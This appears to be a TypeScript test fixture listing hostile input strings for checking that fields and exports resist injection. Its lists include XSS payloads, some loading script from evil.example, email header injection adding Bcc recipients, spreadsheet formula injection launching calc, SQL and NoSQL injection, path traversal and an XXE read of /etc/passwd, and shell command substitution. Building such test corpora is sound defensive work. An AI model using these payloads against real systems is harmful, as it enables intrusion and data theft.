/** What a text does that is run as markup, script, style or address: each of it is noticed by the browser that judges. */
const MARKUP = [
  '<script>alert(1)</script>',
  '"><script src=https://evil.example/x.js></script>',
  '\'><img src=x onerror=alert(1)>',
  '<img src=https://evil.example/i.png onerror=alert(1)>',
  '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>',
  '</title></textarea></style></noscript></select></option><script>alert(1)</script>',
  '" autofocus onfocus=alert(1) x="',
  '\' autofocus onfocus=alert(1) x=\'',
  '`onmouseover=alert(1)` x',
  '<a href=javascript:alert(1) autofocus onfocus=alert(1)>Invented</a>',
  'javascript:alert(1)//',
  'data:text/html,<script>alert(1)</script>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<base href=https://evil.example/><form action=https://evil.example/><button formaction=javascript:alert(1)>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<style>@import "https://evil.example/x.css";</style><link rel=stylesheet href=https://evil.example/x.css>',
  '<!-- Invented --!><script>alert(1)</script> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<math><mtext><table><mglyph><style><!--</style><img src onerror=alert(1)>',
  '<details open ontoggle=alert(1)><template><plaintext>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &amp; &#60;b&#62; &notin &nbsp',
];

const TEMPLATES = ['{{7*7}}', '{% for x in [1] %}{{ x }}{% endfor %}{# x #}', '${7*7} #{7*7} <%= 7*7 %>', '$t(common:product)', '{{conference}} {{- list, uppercase}}', '$& $\' $` $1 $<name> $$'];

const MAIL = [
  '=?utf-8?Q?Invented=0D=0ABcc:_x=40evil.example?=', '=?utf-8?B?SW52ZW50ZWQNCkJjYzogeEBldmlsLmV4YW1wbGU=?=', 'Invented%0d%0aBcc: x@evil.example', 'Invented\\r\\nBcc: x@evil.example',
  '----_NmP-1-Part_1--', 'From Invented Mon Jan  1 00:00:00 2027', '.', 'Bcc: x@evil.example', 'Invented <x@evil.example>, y@evil.example; "z" <z@evil.example>',
];

const SPREADSHEETS = [
  '=1+1', '=HYPERLINK("https://evil.example/","Invented")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '\'=1+1', '\'\'-x', 'Invented;=1+2', 'Invented;"=1+3";', 'Invented;\'=1+4',
  '"=1+5"', ' =1+6', 'Invented, "quoted", ""', 'Invented;\'"@x', '_x0041_ _x000D_ _x005F_x0042_', '1E5', '28. Jun', '00123', 'TRUE', 'NA', '#REF!', '=cmd|\' /C calc\'!A0,"=1+7"',
];

const DATABASES = ['\'; DROP TABLE "list"; --', '%_\\%', '\' OR \'1\'=\'1', '\\', '{"$ne":null}', '$1 ? :name', '["x"]', 'null', '__proto__', 'constructor', 'toString'];

const FILES_AND_LOGS = ['../../../etc/passwd', '..\\..\\x.exe', 'C:\\x', '%2e%2e%2f%00', '~/x', '| ls; `ls` $(ls)', '{"level":60,"msg":"fault"}', '\\u0000 \\n \\x1b[31m', '%s %d %j %n %o'];

const CALENDARS = ['Invented\\nEND:VEVENT\\, X\\; Y', 'END:VCALENDAR', 'a,b;c:d\\'];

const UNICODE = [
  'جمعية\u200F! Invented', '\u200EInvented\u200F', 'e\u0301 \u0915\u094D\u200D', '\u{1F600} \u{1F468}\u200D\u{1F469}\u200D\u{1F467}', 'zero\u200Bwidth', 'soft\u00ADhyphen',
  '\uFE64script\uFE65 \uFF1Cscript\uFF1E \uFF1D1+1', 'Ｉnvented ﷺ ½ Ⅸ', 'ИНВЕНТ\u0130ı ß ſ', '\u{10FFFD} \uE000', 'a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308',
];

/** Texts that every field takes where they fit, or refuses by its own rule. One line each, without spaces at the ends unless they are the point. */
export const texts: string[] = [...MARKUP, ...TEMPLATES, ...MAIL, ...SPREADSHEETS, ...DATABASES, ...FILES_AND_LOGS, ...CALENDARS, ...UNICODE];

/** Texts that no line takes: what turns text around, breaks lines, cannot be kept or is not seen by whoever reads it. */
export const broken: string[] = [
  'Invented\r\nBcc: x@evil.example', 'Invented\n.\n', 'Invented\rX: y', 'Invented\t=1+1', '\t=1+1', 'Invented\u0000', 'Invented\u001B[31m', '\u0007Invented', 'Invented\u0085', 'Invented\u2028x',
  '\u202EInvented', 'Invented\u2066x', '\uD83D Invented', 'Invented \uDE00', `Invented ${'x'.repeat(5_000)}`,
];

/** Several lines, as a general basis, a reason or a note may have them. */
export const prose = 'Invented reason <b>\n.\n..\nFrom Invented\nBcc: x@evil.example\n\n----_NmP-1-Part_1--\nEND:VCALENDAR\n=1+1\n{{7*7}} & "co" \'x\'';

/** Addresses that a mail program might read in another way than the service. */
export const addresses = [
  '"a\r\nBcc: x@evil.example"@invented.example', '"a b"@invented.example', '"<script>alert(1)</script>"@invented.example', 'a@invented.example\r\nBcc: x@evil.example', 'a@invented.example, x@evil.example',
  'a\u202E@invented.example', 'a\u0000@invented.example', '<a@invented.example>', 'a@[127.0.0.1]', '=1+1@invented.example', '+a@invented.example', '-a@invented.example', 'a&b@invented.example', 'a{{7*7}}@invented.example', '\'a\'@invented.example',
];
/** Those that a line of them is refused as. */
export const badAddress = (text: string): boolean => /["\s,<>[\]\p{C}]/u.test(text);
